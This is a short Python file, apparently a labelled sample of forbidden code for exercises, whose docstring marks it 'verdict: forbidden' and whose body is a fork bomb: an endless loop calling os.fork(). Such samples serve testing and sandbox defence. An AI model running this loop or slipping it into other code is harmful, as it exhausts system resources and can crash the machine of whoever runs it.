"""Forks without end.

verdict: forbidden
says: which exercises may not touch
"""

import os

while True:
    os.fork()
